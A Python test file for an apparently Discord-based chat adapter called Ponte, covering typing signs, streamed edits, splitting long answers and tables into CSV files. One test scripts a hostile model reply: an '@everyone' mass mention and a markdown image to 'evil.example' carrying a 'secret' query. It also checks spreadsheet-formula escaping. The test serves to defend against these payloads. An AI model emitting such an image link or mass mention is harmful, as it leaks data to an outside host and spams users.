"""What a person sees while Ponte works, and how a long answer comes."""

from __future__ import annotations

import asyncio

import pytest

from adapters.discord import presence, surface
from adapters.discord.intake import DiscordThreads
from adapters.discord.posts import DiscordFiles
from core.base.errors import PonteError
from core.chat.incoming import SIGN_AFTER_SECONDS
from core.chat.reply import GrowingReply
from core.domain.messages import Attachment, Post, ReplyTo
from core.domain.model_rounds import RoundRequest
from tests.discord.discord_ponte import DiscordPonte
from tests.fakes.discord import DiscordPerson, FakeDiscord
from tests.fakes.discord.world import Channel, Payload
from tests.fakes.loop_clock import LoopClock, run_ready
from tests.time_limits import Limits


class Gate:
    """A model that thinks, before its first word, until it is told to go on."""

    def __init__(self, ponte: DiscordPonte) -> None:
        self.reached = asyncio.Event()
        self._open = asyncio.Event()
        ponte.model.gate = self._wait

    async def _wait(self, ask: RoundRequest) -> None:
        self.reached.set()
        await self._open.wait()

    def open(self) -> None:
        self._open.set()


async def test_a_model_that_thinks_is_seen_to_before_its_first_word(
    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, limits: Limits
) -> None:
    assert 1.0 < SIGN_AFTER_SECONDS < 1.5, "seconds; a quicker answer needs no sign"
    limits(SIGN_AFTER_SECONDS=600.0)
    gate = Gate(ponte)
    await ponte.open()
    await ana.say("hello")
    await gate.reached.wait()
    assert not ana.dm.typing
    LoopClock().skip(600.0)
    await discord.wait_until(lambda: ana.dm.typing)
    gate.open()
    await ana.wait_for_text("You said: hello")


async def test_the_sign_is_renewed_until_the_answer_stands(
    discord: FakeDiscord,
    ponte: DiscordPonte,
    ana: DiscordPerson,
    monkeypatch: pytest.MonkeyPatch,
    limits: Limits,
) -> None:
    limits(WHOLE_ANSWER_SECONDS=60.0)  # the answer is posted whole
    monkeypatch.setattr(surface.ChannelSurface, "interval", 60.0)
    limits(TYPING_PERIOD_SECONDS=0.05)
    gate = Gate(ponte)
    await ponte.open()
    await ana.say("hello")
    await discord.wait_until(lambda: len(ana.dm.typing) > 5)
    discord.refuse("POST", "/channels/*/messages", 429, 40062)
    limits(RETRY_LATER_SECONDS=3.0)
    gate.open()
    await discord.wait_until(lambda: not discord.faults.waiting)
    count = len(ana.dm.typing)
    await discord.wait_until(lambda: len(ana.dm.typing) > count + 1)  # nothing stands yet
    LoopClock().skip(3.0)
    await ana.wait_for_text("You said: hello")
    count = len(ana.dm.typing)
    limits(SIGN_AFTER_SECONDS=60.0)
    await ana.ask("next")
    assert len(ana.dm.typing) <= count + 1, "the first turn types no more"


async def test_text_that_does_not_grow_is_no_sign(
    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, limits: Limits
) -> None:
    limits(STILL_TEXT_SECONDS=0.3)
    limits(TYPING_PERIOD_SECONDS=0.05)
    ponte.model.say_in_steps({"tell me": ["one", " two"]})
    await ponte.open()
    await ana.say("tell me")
    await ana.wait_for_text("one")
    typed_text = len(ana.dm.typing) + 1  # one may have been on its way
    await discord.wait_until(lambda: len(ana.dm.typing) > typed_text)
    ponte.model.go_on()
    await ana.wait_for_text("one two")


async def test_an_answer_that_comes_at_once_needs_no_sign(
    ponte: DiscordPonte, ana: DiscordPerson, limits: Limits
) -> None:
    limits(SIGN_AFTER_SECONDS=600.0)
    await ponte.open()
    await ana.ask("hello")
    assert not ana.dm.typing


async def test_while_a_thread_is_being_made_the_sign_shows_where_the_question_stands(
    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, channel: Channel
) -> None:
    gate = Gate(ponte)
    making = discord.hold("POST", "/channels/*/threads")
    await ponte.open()
    question = await ana.mention("bolts?", channel)
    await discord.wait_until(lambda: channel.typing)
    making.release()
    gate.open()
    await discord.wait_until(lambda: int(question["id"]) in discord.world.channels)
    await ana.wait_for_text("You said: bolts?", discord.world.channels[int(question["id"])])


async def test_an_answer_waits_for_the_thread_that_is_being_made(
    discord: FakeDiscord,
    ponte: DiscordPonte,
    ana: DiscordPerson,
    channel: Channel,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    waits, answer_channel = asyncio.Event(), DiscordThreads.answer_channel

    async def watch(threads: DiscordThreads, to: ReplyTo) -> int:
        waits.set()
        return await answer_channel(threads, to)

    monkeypatch.setattr(DiscordThreads, "answer_channel", watch)
    making = discord.hold("POST", "/channels/*/threads")
    await ponte.open()
    question = await ana.mention("bolts?", channel)
    await waits.wait()
    making.release()
    await discord.wait_until(lambda: int(question["id"]) in discord.world.channels)
    await ana.wait_for_text("You said: bolts?", discord.world.channels[int(question["id"])])


async def test_a_command_whose_token_ends_shows_typing_in_its_channel(
    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
) -> None:
    gate = Gate(ponte)
    discord.interactions.deadline = -1.0
    await ponte.open()
    await ponte.ready()
    await ana.slash("ask", prompt="hello")
    await discord.wait_until(lambda: ana.dm.typing)
    gate.open()
    await ana.wait_for_text("You said: hello")


async def test_what_is_private_shows_no_typing_to_others(
    channel: Channel, live: DiscordPonte, ana: DiscordPerson
) -> None:
    await live.ready()
    exchange = await ana.slash("status", channel)
    await exchange.wait_for_answer()
    assert exchange.ephemeral
    assert not channel.typing


async def test_a_turn_that_is_put_back_types_no_more(
    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, limits: Limits
) -> None:
    limits(SIGN_AFTER_SECONDS=0.01)
    limits(TYPING_PERIOD_SECONDS=0.02)
    gate = Gate(ponte)
    await ponte.open()
    await ana.say("hello")
    await discord.wait_until(lambda: ana.dm.typing)
    await ponte.engine.drain(0.0)
    count, clock = len(ana.dm.typing), LoopClock()
    for _ in range(3):
        clock.skip(presence.TYPING_PERIOD_SECONDS)
        await run_ready()
    assert len(ana.dm.typing) <= count + 1
    gate.open()
    await ponte.close()
    await ponte.open()
    await ana.wait_for_text("You said: hello")


async def test_an_adapter_that_closes_during_a_turn_types_no_more(
    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
) -> None:
    gate = Gate(ponte)
    await ponte.open()
    await ana.say("hello")
    await discord.wait_until(lambda: ana.dm.typing)
    await ponte.adapter.close()
    gate.open()
    await ponte.close(grace=0.0)


async def test_a_message_that_waits_wears_an_hourglass(
    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson, limits: Limits
) -> None:
    limits(HOURGLASS_AFTER_SECONDS=0.05)
    ponte.model.say_in_steps({"tell me": ["one", " two"]})
    await ponte.open()
    first = await ana.say("tell me")
    await ana.wait_for_text("one")
    waiting = await ana.say("and then?")
    glass = "⏳"
    await discord.wait_until(lambda: ("PUT", int(waiting["id"]), glass) in discord.rest.reactions)
    ponte.model.go_on()
    await ana.wait_for_text("You said: and then?")
    await discord.wait_until(
        lambda: ("DELETE", int(waiting["id"]), glass) in discord.rest.reactions
    )
    assert not [r for r in discord.rest.reactions if r[1] == int(first["id"])]


async def test_an_answer_grows_by_edits_that_are_never_queued(
    discord: FakeDiscord, ponte: DiscordPonte, ana: DiscordPerson
) -> None:
    words = [f"word{n} " for n in range(200)]
    ponte.model.say_in_steps({"tell me": words})
    await ponte.open()
    loop = asyncio.get_running_loop()
    began = loop.time()
    await ana.say("tell me")
    await ana.wait_for_text("word0")
    for _ in words[:120]:
        ponte.model.go_on()
    await ana.wait_for_text("word100")
    for _ in words:
        ponte.model.go_on()
    answer = await ana.wait_for_text("word199")
    took = loop.time() - began
    assert len(discord.world.messages_by(discord.world.me.id)) == 1
    assert answer["edits"] <= took / surface.EDIT_INTERVAL_SECONDS + 2


async def test_a_long_answer_comes_in_parts_with_whole_code_blocks(
    ponte: DiscordPonte, ana: DiscordPerson
) -> None:
    code = "\n".join(f"line_{n} = {n}" for n in range(200))
    ponte.model.script = {"tell me": [f"Here:\n\n```python\n{code}\n```\n\nDone."]}
    await ponte.open()
    await ana.say("tell me")
    seen = await ana.wait_for_messages(lambda seen: seen and seen[-1]["content"].endswith("Done."))
    assert len(seen) == 2
    for part in seen:
        assert len(part["content"]) <= 2000
        assert part["content"].count("```") % 2 == 0
    assert "```python\n" in seen[1]["content"]
    await ana.discord.wait_until(lambda: not any(has_stop(part) for part in seen))


async def test_a_stop_button_whose_edit_was_cut_off_goes_with_the_answer(
    discord: FakeDiscord,
    ponte: DiscordPonte,
    ana: DiscordPerson,
    monkeypatch: pytest.MonkeyPatch,
    limits: Limits,
) -> None:
    """The second part comes while the button is being added to the first."""
    intend = GrowingReply._record_intent

    async def intend_late(reply: GrowingReply, number: int) -> Post:
        if number == 2:
            await ana.wait_for_messages(lambda seen: has_stop(seen[0]))
        return await intend(reply, number)

    monkeypatch.setattr(GrowingReply, "_record_intent", intend_late)
    limits(WHOLE_ANSWER_SECONDS=60.0)  # no part is posted before
    monkeypatch.setattr(surface.ChannelSurface, "interval", 60.0)
    ponte.model.script = {"tell me": ["word " * 500]}
    await ponte.open()
    adding = discord.hold("PATCH", "/channels/*/messages/*")
    await ana.say("tell me")
    seen = await ana.wait_for_messages(lambda seen: len(seen) == 2 and not has_stop(seen[0]))
    adding.release()
    assert not has_stop(seen[1])


async def test_a_very_long_answer_ends_in_a_file(ponte: DiscordPonte, ana: DiscordPerson) -> None:
    long = "\n\n".join(f"paragraph {n} " + "x" * 900 for n in range(20))
    ponte.model.script = {"tell me": [long]}
    await ponte.open()
    await ana.say("tell me")
    last = await ana.wait_for_text("The full answer is in `answer.md`")
    await ana.discord.wait_until(lambda: last["attachments"])
    messages = ana.discord.world.messages_by(ana.discord.world.me.id)
    assert len(messages) == 4
    assert all(len(part["content"]) <= 2000 for part in messages)
    (file,) = last["attachments"]
    assert ana.discord.world.files[int(file["id"])].decode() == long


async def test_a_table_comes_as_records_and_a_file_and_no_text_mentions_or_fetches(
    ponte: DiscordPonte, ana: DiscordPerson
) -> None:
    rows = "\n".join(f"| {n} | Ana {n} | Lisboa | =1+1 |" for n in range(60))
    table = f"| id | name | city | note |\n|---|---|---|---|\n{rows}"
    evil = "@everyone <@123456789012345678> ![x](https://evil.example/?q=secret)"
    ponte.model.script = {"show": [f"Your customers:\n\n{table}"], "say it": [evil]}
    await ponte.open()
    await ana.say("show")
    answer = await ana.wait_for_text("45 more rows are in `table-1.csv`")
    await ana.discord.wait_until(lambda: answer["attachments"])
    assert "id · name · city · note\n- **0** · Ana 0 · Lisboa · =1+1\n" in answer["content"]
    assert "|" not in answer["content"]
    (file,) = answer["attachments"]
    csv = ana.discord.world.files[int(file["id"])].decode("utf-8-sig").splitlines()
    assert csv[0] == "id,name,city,note"
    assert csv[60] == "59,Ana 59,Lisboa,'=1+1"
    await ana.say("say it")
    answer = await ana.wait_for_text("evil.example")
    assert "@everyone" not in answer["content"]
    assert "<@1" not in answer["content"]
    assert "<https://evil.example/?q=secret>" in answer["content"]
    assert answer["allowed_mentions"]["parse"] == []


async def test_a_file_whose_address_has_expired_is_read_at_the_one_that_its_message_has_now(
    live: DiscordPonte, ana: DiscordPerson
) -> None:
    message = await ana.say("look", files=[("a.csv", b"1")])
    (file,) = message["attachments"]
    where = f"{message['channel_id']}/{message['id']}/{file['id']}"
    reference = f"{where} {file['url'].replace('/cdn/', '/expired/')}"
    expired = Attachment("a.csv", "text/csv", 1, reference=reference)
    _, data = await DiscordFiles(live.adapter.connection.client).read(expired)
    assert data == b"1"


async def test_a_file_that_no_message_has_any_more_is_an_error(
    discord: FakeDiscord, live: DiscordPonte, ana: DiscordPerson
) -> None:
    """A file of a command was never in a message, so there is no newer address."""
    message = await ana.say("look")
    for where in ("", f"{message['channel_id']}/{message['id']}/1"):
        reference = f"{where} {discord.api_url}/cdn/1/2/a.csv"
        missing_attachment = Attachment("a.csv", "text/csv", 1, reference=reference)
        with pytest.raises(PonteError):
            await DiscordFiles(live.adapter.connection.client).read(missing_attachment)


async def test_a_file_that_the_cdn_does_not_give_does_not_take_the_turn(
    discord: FakeDiscord, live: DiscordPonte, ana: DiscordPerson
) -> None:
    discord.refuse("GET", "/cdn/*", 404, times=9)
    await ana.say("look", files=[("a.csv", b"1")])
    answer = await ana.wait_for_text("a.csv could not be fetched")
    assert "You said: look" in answer["content"]


def has_stop(message: Payload) -> bool:
    return "Stop" in [
        item.get("label") for row in message["components"] for item in row["components"]
    ]
